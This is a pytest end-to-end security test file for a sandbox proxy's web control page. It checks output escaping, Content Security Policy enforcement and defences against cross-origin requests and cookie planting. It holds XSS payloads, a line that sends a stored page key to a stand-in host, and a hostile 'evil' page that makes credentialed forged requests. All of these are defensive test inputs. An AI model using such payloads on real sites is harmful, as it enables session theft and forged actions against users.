"""What sandboxes write stays text, and what other sites try stays outside; and the page is for everybody."""

import asyncio
import http.server
import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager

import pytest

from coatcheck.policy import load_policy
from tests.browser import Person
from tests.daemon import Sandbox
from tests.planes.wire import Wire, http_client
from tests.system.control.conftest import Control, control, ground, short_dir
from tests.system.e2e.on_call import browser, log_in, person
from tests.system.e2e.story import MODELS, bearer
from tests.system.planes.conftest import POLICY

__all__ = ["browser", "control", "ground", "person", "short_dir"]

pytestmark = pytest.mark.needs_debian("chromedriver")

MARKUP = "<img src=x onerror=document.title='owned'><script>document.title='owned'</script>"
RULE = "<b>{{7*7}}</b>"
RAW = "<img/src=x/onerror=document.title='owned'>"
LABEL = "\"'><svg/onload=document.title=1>{{7*7}}${7*7}"


async def send_raw(control: Control, sandbox: Sandbox, target: str) -> None:
    """A request whose target is not encoded by any client; whatever the answer is."""
    wire = Wire(*await asyncio.open_connection(*sandbox.address))
    await wire.send(b"CONNECT upstream.example:443 HTTP/1.1\r\nHost: upstream.example:443\r\n\r\n")
    assert await wire.status() == 200
    await wire.start_tls(control.daemon.trust.ca, "upstream.example")
    await wire.send(f"GET {target} HTTP/1.1\r\nHost: upstream.example\r\n\r\n".encode())
    await wire.status()
    wire.writer.close()


async def test_names_paths_and_labels_stay_text(person: Person, control: Control) -> None:
    """Host names, paths, methods, tenants, subjects, rules: each with markup in it, each shown, none run."""
    asking = POLICY.replace("- name: openai", f"- name: {json.dumps(RULE)}\n    ask: {{wait: 10m}}")
    control.daemon.state.swap_policies({"default": load_policy("default", asking.encode())})
    sandbox = await control.daemon.sandbox(tenant=LABEL, subject=MARKUP)
    await asyncio.to_thread(log_in, person, control)
    wire = Wire(*await asyncio.open_connection(*sandbox.address))
    await wire.send(f"CONNECT {RAW}:443 HTTP/1.1\r\nHost: {RAW}:443\r\n\r\n".encode())
    await wire.status()
    wire.writer.close()
    for target in (f"/{RAW}", f"/v1/{LABEL}", "/\u202egnp.exe", f"/?q={RAW}"):
        await send_raw(control, sandbox, target)
    async with http_client(control.daemon, sandbox) as http:
        await http.request("GET", f"https://upstream.example/{LABEL}", headers=bearer(sandbox))
        request = asyncio.ensure_future(http.get(f"{MODELS}/{LABEL}", headers=bearer(sandbox), timeout=120))

        def look() -> None:
            person.reads("#approvals-list", f"rule {RULE}")
            person.reads("#alarms-list", "upstream.example/")
            person.reads("#sessions-list", f"{LABEL} / {MARKUP[:20]}")
            person.reads("#verdicts-list", f"GET https://upstream.example/{RAW}")
            person.click("#sessions-list button")
            person.reads("#details-pairs", MARKUP)
            person.click("#details-close")
            person.click("#approvals-list .danger")

        await asyncio.to_thread(look)
        assert (await request).status_code == 403

    def after() -> None:
        assert "owned" not in person.run("return document.title")
        tags = person.run(
            "return [...document.querySelectorAll('main *, dialog *')].map((each) => each.localName)"
        )
        assert not {"img", "script", "iframe", "object", "a", "style"} & set(tags)
        assert tags.count("svg") == 1
        assert "\u202e" not in person.run("return document.body.innerText")

    await asyncio.to_thread(after)


LATE = """return new Promise((done) => setTimeout(() => {
  try { CODE; done('ran') } catch (error) { done(error.name) }
}))"""


async def test_what_is_not_ours_does_not_run_even_if_it_got_in(person: Person, control: Control) -> None:
    """Inline scripts and styles, evaluated text, markup from text, requests to elsewhere: all stopped."""

    def story() -> None:
        log_in(person, control)
        tries = {
            "markup": "document.body.innerHTML = '<b>x</b>'",
            "script": "const s = document.createElement('script'); s.text = 'document.title = 1'",
            "url": "document.createElement('script').src = 'data:,1'",
        }
        for what, code in tries.items():
            made = f"try {{ {code}; return 'done' }} catch (error) {{ return error.name }}"
            assert person.run(made) in ("TypeError", "EvalError"), what
        # The driver's own scripts may; so may nothing that runs in the page by itself.
        for code in ("(0, eval)('1')", "new Function('1')()", "setTimeout('document.title = 1')"):
            assert person.run(LATE.replace("CODE", code)) in ("TypeError", "EvalError"), code
        person.run("new Image().src = 'http://localhost:1/?' + localStorage['coatcheck-page-key']")
        person.run("document.body.append(Object.assign(document.createElement('p'), {style: 'top: 0'}))")
        said = person.run("return fetch('http://localhost:1/').then(() => 'sent', (error) => error.name)")
        assert said == "TypeError"
        complaints = person.until(lambda: "".join(person.complaints()))
        assert "Content Security Policy" in complaints

    await asyncio.to_thread(story)


@contextmanager
def another_site(pages: dict[str, str]) -> Iterator[str]:
    """On another port of the same host: to cookies it is the same site."""
    heard: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.append(self.headers.get("Cookie", ""))
            body = pages.get(self.path, "").encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Set-Cookie", "coatcheck=planted; Path=/page")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


EVIL = """<!doctype html><title>evil</title><iframe id=f src="{page}/page/"></iframe>
<form id=form action="{page}/page/logout" method=post enctype="text/plain">
<input name='{{"x":"' value='"}}'></form>
<script src="{page}/page/api.js" type=module></script>
<script>
const said = {{}}, json = {{'Content-Type': 'application/json', 'Coatcheck-Page': 'x'}};
const send = (name, path, more) => fetch('{page}/page/' + path, {{credentials: 'include', ...more}})
  .then((answer) => said[name] = answer.status, (error) => said[name] = error.name);
const post = {{method: 'POST', mode: 'no-cors'}};
Promise.all([
  send('live', 'live', {{}}),
  send('revoke', 'v1/revocations', {{method: 'POST', headers: json, body: '{{"everything": true}}'}}),
  send('logout', 'logout', {{...post, body: '{{}}'}}),
  send('login', 'login', {{...post, body: '{{"token": "x"}}'}}),
]).then(() => window.said = said);
</script>"""


async def test_another_port_of_the_same_host_gets_nothing_and_does_nothing(
    person: Person, control: Control
) -> None:
    """It may see the cookie, and plant another: it cannot read, revoke, log out or in, or frame the page."""
    sandbox = await control.daemon.sandbox()

    def story() -> None:
        log_in(person, control)
        with another_site({"/evil": EVIL.format(page=control.url)}) as site:
            person.browser.get(f"{site}/evil")
            said = person.until(lambda: person.run("return window.said"))
            assert (said["live"], said["revoke"]) == ("TypeError", "TypeError")
            framed = "try { return document.querySelector('#f').contentDocument } catch { return 1 }"
            assert not person.run(framed)
            person.browser.switch_to.frame("f")
            assert not person.all("#login, #board")
            person.browser.switch_to.default_content()
            person.run("document.querySelector('#form').submit()")
            person.reads("body", "does not come from this page")
        person.complaints()  # of what was refused
        # The planted cookie has the name and path of ours: it has replaced it, and nobody is logged in by it.
        person.open(f"{control.url}/page/")
        person.reads("#login-problem", "Log in again")
        assert "401" in "".join(person.complaints())
        log_in(person, control)

    await asyncio.to_thread(story)
    assert control.daemon.state.status(sandbox.session.id) == "live"
    told = [each["detail"] for each in control.daemon.records() if each.get("what", "").startswith("page_")]
    assert told == ["operator, by a token"] * 2
